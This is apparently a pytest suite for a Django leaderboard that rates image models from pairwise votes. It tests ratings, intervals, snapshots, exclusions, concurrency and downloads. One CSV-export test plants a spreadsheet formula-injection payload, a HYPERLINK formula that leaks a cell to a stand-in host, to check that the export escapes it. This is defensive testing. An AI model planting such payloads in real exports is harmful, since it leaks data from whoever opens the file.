"""Snapshots computed from votes, and the pages that show them."""

import hashlib
import io
import json
from typing import Any

import numpy as np
import pandas as pd
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from arena.leaderboards import snapshots
from arena.leaderboards.matchup_counts import unpack_counts
from arena.leaderboards.snapshots import rate_board
from arena.models import Board, Leaderboard, Vote
from arena.votes.casting import cast_vote
from arena.votes.clusters import read_clusters
from arena.votes.exclusions import lift_exclusion
from evaluation.ratings.bradley_terry import fit_bradley_terry
from evaluation.ratings.counts import count_votes
from evaluation.ratings.ranks import find_rank_sets
from generators.models import ImageModel
from tests import builders
from tests.concurrency import run_at_once
from tests.transactions import refuse_in_transactions


def vote_on(board: Board, first, second, winner: str, times: int = 1) -> None:
    """Votes of this many raters on battles of two models, with ``first`` as A."""
    while times:
        battle = builders.make_battle(board)
        models = (battle.model_a, battle.model_b)
        if models == (first, second):
            cast_vote(battle, battle.owner, winner)
        elif models == (second, first):
            swapped = {"model_a": "model_b", "model_b": "model_a"}
            cast_vote(battle, battle.owner, swapped.get(winner, winner))
        else:
            continue
        times -= 1


@pytest.fixture
def voted(board: Board) -> Board:
    """a beats b 6:2, b beats c 6:2, a and c draw twice."""
    a, b, c = board.image_models.all()
    for first, second in ((a, b), (b, c)):
        vote_on(board, first, second, "model_a", 6)
        vote_on(board, first, second, "model_b", 2)
    vote_on(board, a, c, "tie", 1)
    vote_on(board, a, c, "both_bad", 1)
    return board


def test_votes_become_ratings_with_intervals_and_ranks(voted: Board) -> None:
    leaderboard = rate_board(voted)
    a, b, c = leaderboard.ratings.order_by("model__slug")
    assert a.value > b.value > c.value
    assert (a.value + b.value + c.value) / 3 == pytest.approx(1000)
    for row in (a, b, c):
        assert row.ci_low < row.value < row.ci_high
        assert 1 <= row.rank_best <= row.rank_worst <= 3
        assert row.preliminary
    assert (b.n_votes, b.wins, b.losses, b.ties, b.both_bad) == (16, 8, 8, 0, 0)
    assert (a.n_votes, a.ties, a.both_bad) == (10, 1, 1)
    assert (leaderboard.n_votes, leaderboard.n_raters) == (18, 18)


def test_a_snapshot_holds_what_is_needed_to_compute_it_again(voted: Board) -> None:
    voted.interval = Board.Interval.SANDWICH
    voted.save()
    leaderboard = rate_board(voted)
    counts = unpack_counts(leaderboard.counts)
    assert counts.n_votes == leaderboard.n_votes == 18
    assert leaderboard.last_vote_id == Vote.objects.latest("id").pk
    fit = fit_bradley_terry(counts)
    assert fit.parameters.items() <= leaderboard.parameters.items()
    rows = list(leaderboard.ratings.order_by("model"))
    assert [row.value for row in rows] == pytest.approx(fit.values)
    sets = find_rank_sets(fit, confidence=fit.confidence, **leaderboard.parameters["rank_draws"])
    assert [(row.rank_set_best, row.rank_set_worst) for row in rows] == list(zip(sets.best, sets.worst, strict=True))
    assert leaderboard.covariance_digest == hashlib.sha256(fit.covariance.tobytes()).hexdigest()
    Leaderboard.objects.filter(pk=leaderboard.pk).delete()
    assert rate_board(voted).digest == leaderboard.digest


def test_without_new_votes_there_is_no_new_snapshot(voted: Board) -> None:
    assert rate_board(voted)
    assert rate_board(voted) is None
    builders.make_vote(voted)
    assert rate_board(voted)
    assert Leaderboard.objects.count() == 2


def test_equally_many_new_and_excluded_votes_make_a_new_snapshot(voted: Board) -> None:
    before = rate_board(voted)
    battle = Vote.objects.latest("id").battle
    builders.exclude(battle.vote)
    vote_on(voted, battle.model_a, battle.model_b, battle.vote.winner)
    after = rate_board(voted)
    assert (after.n_votes, after.excluded) == (before.n_votes, {"operator": 1})


def test_a_board_without_new_votes_takes_few_queries(voted: Board) -> None:
    rate_board(voted)
    with CaptureQueriesContext(connection) as queries:
        assert rate_board(voted) is None
    assert len([q for q in queries.captured_queries if "SAVEPOINT" not in q["sql"]]) <= 9


def test_ratings_are_fitted_outside_transactions(voted: Board, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(snapshots, "fit_bradley_terry", refuse_in_transactions(fit_bradley_terry, "a fit"))
    assert rate_board(voted)


@pytest.mark.django_db(transaction=True)
def test_a_snapshot_is_of_one_state_and_votes_go_on_meanwhile(voted: Board, monkeypatch: pytest.MonkeyPatch) -> None:
    """A vote is excluded, another included and a third cast between reading the counts and the clusters."""
    first, second, *_ = Vote.objects.order_by("id")
    exclusion = builders.exclude(first)
    used = []

    def change() -> None:
        lift_exclusion(exclusion, lifted_by="tests")
        builders.exclude(second)
        builders.make_vote(voted)

    def be_late(*args: Any) -> Any:
        assert run_at_once([change]) == [None]
        used.append(read_clusters(*args))
        return used[0]

    monkeypatch.setattr(snapshots, "read_clusters", be_late)
    made = rate_board(voted)
    assert (made.n_votes, made.n_raters, made.excluded) == (17, 17, {"operator": 1})
    assert np.array_equal(count_votes(used[0]).table, unpack_counts(made.counts).table)
    assert set(used[0].clusters["rater"]) == set(voted.votes.exclude(pk=first.pk)[:17].values_list("rater", flat=True))
    monkeypatch.setattr(snapshots, "read_clusters", read_clusters)
    after = rate_board(voted)
    assert (after.n_votes, after.n_raters, after.excluded) == (18, 18, {"operator": 1})


def test_of_two_ratings_at_once_one_is_stored(voted: Board, monkeypatch: pytest.MonkeyPatch) -> None:
    stored = []

    def be_overtaken(*args: Any) -> Any:
        monkeypatch.setattr(snapshots, "read_clusters", read_clusters)
        stored.append(rate_board(voted))
        return read_clusters(*args)

    monkeypatch.setattr(snapshots, "read_clusters", be_overtaken)
    assert rate_board(voted) is None
    assert list(Leaderboard.objects.all()) == stored


def test_excluded_votes_do_not_count(voted: Board) -> None:
    before = rate_board(voted)
    exclusion = builders.exclude(Vote.objects.latest("id"))
    after = rate_board(voted)
    assert (after.n_votes, after.excluded) == (before.n_votes - 1, {"operator": 1})
    assert after.digest != before.digest
    assert rate_board(voted) is None
    lift_exclusion(exclusion, lifted_by="tests")
    assert rate_board(voted).digest == before.digest


def test_another_exclusion_of_equal_votes_makes_a_new_snapshot(voted: Board) -> None:
    """The counts stay the same, but the clusters may not."""
    first, second = equal_votes(voted)
    exclusion = builders.exclude(first)
    before = rate_board(voted)
    lift_exclusion(exclusion, lifted_by="tests")
    builders.exclude(second)
    after = rate_board(voted)
    assert (after.counts, after.excluded) == (before.counts, before.excluded)


def equal_votes(board: Board) -> tuple[Vote, Vote]:
    """Two votes with the same models, sides and winner."""
    found: dict[tuple[int, int, str], Vote] = {}
    for vote in board.votes.all():
        earlier = found.setdefault((vote.model_a_id, vote.model_b_id, vote.winner), vote)
        if earlier != vote:
            return earlier, vote
    raise AssertionError("no two votes are equal")


def test_an_unbeaten_model_has_no_rating_and_the_page_says_so(board: Board, client: Client) -> None:
    a, b, c = board.image_models.all()
    vote_on(board, a, b, "model_a", 3)
    vote_on(board, b, c, "model_a", 2)
    vote_on(board, c, b, "model_a", 2)
    rows = {row.model: row for row in rate_board(board).ratings.all()}
    assert (rows[a].unrated, rows[a].value, rows[a].rank_best) == ("unbeaten", None, None)
    assert rows[b].value == pytest.approx(1000)
    page = client.get(board.get_absolute_url())
    assert b"Not all models are on one scale" in page.content
    assert b"has not lost to a rated model yet" in page.content


def test_models_that_are_not_connected_have_no_rating_and_the_page_says_so(db: None, client: Client) -> None:
    board = builders.make_board(n_models=4, drawn=True)
    a, b, c, d = board.image_models.all()
    vote_on(board, a, b, "tie", 2)
    vote_on(board, c, d, "tie", 1)
    rows = {row.model: row.unrated for row in rate_board(board).ratings.all()}
    assert rows == {a: "", b: "", c: "disconnected", d: "disconnected"}
    assert b"not connected to the rated models" in client.get(board.get_absolute_url()).content


def test_ratings_with_enough_votes_are_not_preliminary(voted: Board) -> None:
    voted.preliminary_below = 12
    voted.save()
    flags = {row.n_votes: row.preliminary for row in rate_board(voted).ratings.all()}
    assert flags == {10: True, 16: False}


def test_the_page_shows_rank_rating_interval_votes_and_chart(voted: Board, client: Client) -> None:
    leaderboard = rate_board(voted)
    page = client.get(voted.get_absolute_url()).content.decode()
    for row in leaderboard.ratings.all():
        assert row.model.name in page
        assert f'aria-label="{row.value:.0f}, interval {row.ci_low:.0f} to {row.ci_high:.0f}"' in page
    assert "18 votes" in page
    assert reverse("interval_chart", args=[voted.slug]) in page
    assert leaderboard.digest[:12] in page


def test_the_chart_has_the_tables_figures(voted: Board, client: Client) -> None:
    leaderboard = rate_board(voted)
    figure = json.loads(client.get(reverse("interval_chart", args=[voted.slug])).content)
    names = list(leaderboard.ratings.order_by("value").values_list("model__name", flat=True))
    assert figure["data"][0]["y"] == names


@pytest.mark.parametrize(("kind", "read"), [("csv", pd.read_csv), ("json", pd.read_json), ("parquet", pd.read_parquet)])
def test_the_table_can_be_downloaded(board: Board, client: Client, kind: str, read) -> None:
    a, b, c = board.image_models.all()
    vote_on(board, a, b, "model_a", 3)
    vote_on(board, a, b, "model_b", 1)
    vote_on(board, c, a, "model_a")
    builders.exclude(Vote.objects.latest("id"))
    rate_board(board)
    response = client.get(reverse("download", args=[board.slug, kind]))
    frame = read(io.BytesIO(response.content)).set_index("model")
    assert frame.loc[a.slug, "rating"] == pytest.approx(board.leaderboards.get().ratings.get(model=a).value)
    assert list(frame["votes"]) == [4, 4, 0]
    assert frame.loc[c.slug, ["rating", "ci_low", "rank_best", "rank_set_best"]].isna().all()
    assert list(frame["rank_set_worst"].iloc[:2]) == [2, 2]
    assert frame.loc[c.slug, "unrated"] == "no_votes"
    assert list(frame["excluded_operator"]) == [1, 0, 1]
    assert not frame[["excluded_limit", "excluded_unsafe", "excluded_custom_prompt"]].any(axis=None)
    assert client.get(reverse("download", args=[board.slug, "exe"])).status_code == 404


def test_csv_has_no_formulas_and_its_numbers_are_numbers(board: Board, client: Client) -> None:
    a, b, _ = board.image_models.all()
    ImageModel.objects.filter(pk=a.pk).update(name='=HYPERLINK("https://a.example?leak="&A1)', organization="@SUM(1)")
    vote_on(board, a, b, "model_a", 30)
    vote_on(board, a, b, "model_b", 1)
    rate_board(board)
    frame = pd.read_csv(io.BytesIO(client.get(reverse("download", args=[board.slug, "csv"])).content))
    row = frame.set_index("model").loc[a.slug]
    assert (row["name"], row["organization"]) == ('\'=HYPERLINK("https://a.example?leak="&A1)', "'@SUM(1)")
    assert frame["rating"].dtype == frame["ci_low"].dtype == float
    exact = client.get(reverse("download", args=[board.slug, "json"])).json()
    assert {"=HYPERLINK", "@SUM(1)"} == {exact[0]["name"][:10], exact[0]["organization"]}


def test_pages_say_that_there_are_no_votes_yet(client: Client, board: Board) -> None:
    assert b"There is no leaderboard yet" in client.get(board.get_absolute_url()).content
    assert client.get(reverse("interval_chart", args=[board.slug])).status_code == 404
    rate_board(board)
    page = client.get(board.get_absolute_url())
    assert b"Too few votes for any rating" in page.content
    assert b"no votes yet" in page.content


def test_home_names_the_leader_of_each_board(client: Client, voted: Board) -> None:
    builders.make_board(n_models=2, n_prompts=1)
    rate_board(voted)
    # Another snapshot, so that ids of ratings and boards differ.
    vote_on(voted, *voted.image_models.all()[:2], "model_a")
    leader = rate_board(voted).ratings.order_by("-value")[0].model
    page = client.get("/").content.decode()
    assert f"{leader.name} leads" in page
    assert page.count("leads") == 1


def test_home_lists_boards_with_a_fixed_number_of_queries(client: Client, voted: Board) -> None:
    rate_board(voted)
    with CaptureQueriesContext(connection) as one:
        page = client.get("/").content.decode()
    assert "18 votes" in page
    for _ in range(5):
        builders.make_board(n_models=0, n_prompts=0)
    with CaptureQueriesContext(connection) as six:
        client.get("/")
    assert len(six) == len(one) <= 2


def test_a_leaderboard_takes_a_fixed_number_of_queries(client: Client, voted: Board) -> None:
    rate_board(voted)
    with CaptureQueriesContext(connection) as queries:
        client.get(voted.get_absolute_url())
    assert len(queries) <= 4
